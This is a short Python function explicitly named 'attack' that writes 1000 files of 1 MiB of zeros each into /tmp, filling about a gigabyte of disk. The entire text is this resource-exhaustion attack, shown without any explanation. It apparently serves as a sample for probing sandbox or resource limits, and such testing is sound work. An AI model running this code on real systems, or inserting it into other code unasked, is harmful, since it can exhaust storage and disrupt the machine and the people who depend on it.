def attack(x):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 20))
